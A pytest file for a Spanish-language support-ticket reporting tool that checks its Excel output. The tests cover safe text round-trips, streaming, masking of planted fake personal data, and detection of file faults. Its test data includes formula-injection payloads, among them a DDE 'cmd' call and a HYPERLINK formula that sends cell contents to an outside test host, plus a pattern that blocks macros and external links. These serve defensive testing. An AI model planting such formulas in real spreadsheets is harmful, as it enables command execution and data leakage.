"""The file as other programs take it: every text as it was, nothing that runs, nothing that leads outside."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from supportlens.domain import SourceFile, Tickets
from supportlens.i18n import words_for
from supportlens.report import build, save_book
from supportlens.report.layout.book import BookDraft, ChoiceList, StreamedColumn, StreamedRows, open_sheet
from supportlens.report.layout.cells import write_across, write_cell
from supportlens.report.layout.ranges import CellRange
from supportlens.report.layout.styles import BODY
from supportlens.report.writing.safe_text import excel_safe
from tests.builders import a_study
from tests.unit.report.ooxml_rules import find_faults

OWASP = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "'=1+1", "_x000D_", "_x0041_ ", " a ",
    "a\nb", "<b>&amp;", "#N/A", "TRUE", "1e5", "00123", "2026-01-02", "ñandú 🙂",
)  # fmt: skip
CUT = 32_767
NAME_LIKE_A_CELL = '<definedName name="A1">Resumen!$A$1</definedName></definedNames>'


def saved(book: BookDraft) -> bytes:
    stream = io.BytesIO()
    save_book(book, stream)
    return stream.getvalue()


def with_texts(texts: list[str]) -> bytes:
    """A workbook with texts in plain cells and in streamed rows."""
    book = BookDraft()
    plain, rows = open_sheet(book, "Plain", colour="000000"), open_sheet(book, "Rows", colour="000000")
    for row, text in enumerate(texts, start=1):
        write_cell(plain, row, 1, text, BODY)
    write_cell(rows, 1, 1, "Text", BODY)
    rows.streamed = StreamedRows(
        1, (StreamedColumn("Text"),), range(len(texts)), "Rows", lambda at: [texts[at.start : at.stop]]
    )
    return saved(book)


def decoded(text: object) -> str:
    """What Excel shows for a text in the file: ISO 29500, ST_Xstring."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), str(text or ""))


def read_texts(content: bytes, count: int) -> tuple[list[str], list[str]]:
    """The texts of both sheets, read from the XML itself."""
    space = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        shared = [
            "".join(item.itertext())
            for item in etree.fromstring(package.read("xl/sharedStrings.xml")).findall("x:si", space)
        ]
        found = []
        for number in (1, 2):
            sheet = etree.fromstring(package.read(f"xl/worksheets/sheet{number}.xml"))
            texts = {}
            for cell in sheet.iterfind(".//x:c", space):
                inline = cell.find("x:is", space)
                value = cell.find("x:v", space)
                assert cell.find("x:f", space) is None
                if inline is not None:
                    texts[cell.get("r")] = decoded("".join(inline.itertext()))
                elif value is not None:
                    texts[cell.get("r")] = decoded(shared[int(value.text)])
            first = number  # the streamed rows stand below their title
            found.append([texts.get(f"A{row}", "") for row in range(first, first + count)])
    return found[0], found[1]


def check_round_trip(texts: list[str]) -> None:
    wanted = [excel_safe(text) for text in texts]
    plain, rows = read_texts(with_texts(texts), len(texts))
    assert plain == wanted
    assert rows == wanted


def test_texts_that_open_like_formulas_come_back_as_they_were() -> None:
    check_round_trip(list(OWASP))


ANY_TEXT = st.lists(st.text(st.characters(), max_size=60), min_size=1, max_size=50)


@settings(max_examples=20)
@given(ANY_TEXT)
def test_any_text_comes_back_as_it_was(texts: list[str]) -> None:
    check_round_trip(texts)


@pytest.mark.campaign
@settings(max_examples=400)
@given(st.lists(st.text(st.characters(), max_size=60), min_size=25, max_size=50))
def test_ten_thousand_texts_come_back_as_they_were(texts: list[str]) -> None:
    check_round_trip(texts)


def test_the_values_of_long_sheets_are_asked_for_some_rows_at_a_time() -> None:
    book = BookDraft()
    sheet, asked = open_sheet(book, "Rows", colour="000000"), []

    def read(rows: range) -> list[list[object]]:
        asked.append(rows)
        return [list(rows), [f"row {row}" if row % 2 else None for row in rows]]

    columns = (StreamedColumn("Number"), StreamedColumn("Text"))
    sheet.streamed = StreamedRows(1, columns, range(5, 7_005), "Rows", read)
    content = saved(book)
    assert max(map(len, asked)) <= 2_000
    assert [row for rows in asked for row in rows] == list(range(5, 7_005)), "each once, in order"
    cells = list(load_workbook(io.BytesIO(content))["Rows"].iter_rows(min_row=2, values_only=True))
    assert cells == [(row, f"row {row}" if row % 2 else None) for row in range(5, 7_005)]


def test_a_text_too_long_for_a_cell_is_cut_with_a_mark() -> None:
    plain, rows = read_texts(with_texts(["x" * 40_000]), 1)
    assert plain == rows
    assert len(plain[0]) == CUT
    assert plain[0].endswith("[…]")


def test_calamine_and_openpyxl_read_the_same_cells() -> None:
    content = with_texts(["uno", "dos & tres", "<cuatro>"])
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Rows").to_python()
    openpyxl = [list(row) for row in load_workbook(io.BytesIO(content))["Rows"].iter_rows(values_only=True)]
    assert calamine == openpyxl == [["Text"], ["uno"], ["dos & tres"], ["<cuatro>"]]


@pytest.fixture(scope="module")
def package() -> zipfile.ZipFile:
    """The masked workbook of a study with personal data planted in every column and in the findings."""
    study = a_study()
    frame, original = study.tickets.frame.copy(), study.tickets.original.copy()
    told = "Soy Ana Pérez Ibarra, ana.perez@correo.test, cel 55 1234 5678, tarjeta 4111 1111 1111 1111"
    original["Descripción"] = told
    frame["description"] = told
    source = SourceFile("caso.csv", "csv", "utf-8", ";", len(frame), sha256="1" * 64)
    planted = replace(study, tickets=Tickets(frame, original, (source,)))
    return zipfile.ZipFile(io.BytesIO(saved(build(planted, words_for("es")))))


def test_no_part_of_a_masked_package_holds_a_planted_personal_datum(package: zipfile.ZipFile) -> None:
    text = "".join(package.read(name).decode("utf-8", "replace") for name in package.namelist())
    for datum in ("Pérez Ibarra", "ana.perez@", "correo.test", "55 1234 5678", "4111 1111"):
        assert datum not in text


def test_nothing_in_the_package_runs_or_leads_outside(package: zipfile.ZipFile) -> None:
    names = package.namelist()
    assert not [one for one in names if re.search(r"vba|macro|externalLink|embeddings|activeX|\.bin$", one)]
    relations = "".join(package.read(name).decode() for name in names if name.endswith(".rels"))
    assert 'TargetMode="External"' not in relations


def test_excel_has_nothing_to_repair(package: zipfile.ZipFile) -> None:
    assert find_faults(package) == []


@pytest.mark.parametrize(
    ("part", "found", "planted", "said"),
    [
        ("[Content_Types].xml", "/xl/styles.xml", "/xl/style.xml", "style.xml has a type but is not there"),
        ("xl/_rels/workbook.xml.rels", "worksheets/sheet2.xml", "worksheets/sheet1.xml", "nothing leads to"),
        ("xl/_rels/workbook.xml.rels", 'Id="rId2"', 'Id="rId1"', "rId1 twice"),
        ("xl/workbook.xml", 'name="Causas"', 'name="Resumen"', "sheets are called resumen"),
        ("xl/workbook.xml", "</definedNames>", NAME_LIKE_A_CELL, "A1 is no defined name"),
        ("xl/workbook.xml", "</definedName>", "+Ausente!$A$1</definedName>", "a sheet that is not there"),
        ("xl/worksheets/sheet2.xml", "<sheetData>", "<pageMargins/><sheetData>", "another order"),
        ("xl/worksheets/sheet2.xml", '<row r="3"', '<row r="2"', "row 2 after 2"),
        ("xl/worksheets/sheet2.xml", ' s="', ' s="9999', "a look that is not there"),
        ("xl/worksheets/sheet2.xml", ' t="s"><v>', ' t="s"><v>99999', "a text that is not there"),
        ("xl/worksheets/sheet2.xml", ' r="B2"', ' r="D2"', "stands in the wrong place"),
        ("xl/tables/table1.xml", ' name="Causa"', ' name="Otra"', "its cell says 'Causa'"),
        ("xl/tables/table1.xml", 'displayName="', 'displayName="1 ', "no name for a table"),
        ("xl/tables/table1.xml", ' id="2"', ' id="1"', "two columns of one id"),
        ("xl/styles.xml", 'fontId="1"', 'fontId="999"', "fontId 999 is not there"),
        ("xl/charts/chart1.xml", "<c:f>", "<c:f>Ausente!$A$1+", "names a sheet that is not there"),
    ],
)  # fmt: skip
def test_what_excel_would_repair_is_noticed(
    package: zipfile.ZipFile, part: str, found: str, planted: str, said: str
) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as damaged:
        for name in package.namelist():
            content = package.read(name).decode("utf-8", "surrogateescape")
            assert name != part or found in content
            content = content.replace(found, planted, 1) if name == part else content
            damaged.writestr(name, content.encode("utf-8", "surrogateescape"))
    assert said in "\n".join(find_faults(zipfile.ZipFile(stream)))


def test_every_chart_says_in_words_what_it_shows(package: zipfile.ZipFile) -> None:
    drawings = [package.read(name).decode() for name in package.namelist() if "drawings/drawing" in name]
    frames = [frame for text in drawings for frame in re.findall(r"<xdr:cNvPr [^>]*>", text)]
    assert frames
    assert all(re.search(r'descr="[^"]{10,}"', frame) for frame in frames)


def test_spans_that_overlap_and_lists_too_long_do_not_break_the_file() -> None:
    book = BookDraft()
    sheet = open_sheet(book, "Plain", colour="000000")
    for text in ("once", "twice"):
        write_across(sheet, 1, (1, 3), text, BODY)
    names = ("Ana, Eva", *(f"Somebody with a long name {number}" for number in range(20)))
    sheet.choices.append(ChoiceList(CellRange(2, 1, 2, 1), names, strict=False))
    found = load_workbook(io.BytesIO(saved(book)))["Plain"]
    assert [str(cells) for cells in found.merged_cells.ranges] == ["A1:C1"]
    (rule,) = found.data_validations.dataValidation
    assert len(rule.formula1) <= 257
    assert "Eva" not in rule.formula1
